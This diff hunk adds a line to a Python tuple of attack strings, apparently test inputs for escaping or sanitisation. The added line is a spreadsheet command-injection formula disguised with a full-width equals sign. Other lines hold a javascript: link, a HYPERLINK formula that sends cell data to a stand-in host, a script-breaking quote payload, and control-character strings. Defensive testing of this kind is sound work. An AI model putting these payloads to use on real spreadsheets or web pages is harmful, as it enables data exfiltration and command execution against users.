@@ -26,6 +26,7 @@ ATTACKS = (
     '<a href="javascript:window.__x=1">href</a>',
     '=HYPERLINK("http://evil.example/?"&A1)',
     '\\"-window.__x=1-\\"',
+    "＝cmd|'/c calc'!A1",
     "\x00\x1b]0;\x07名\U000e0001",
     "\ud800孤",
 )
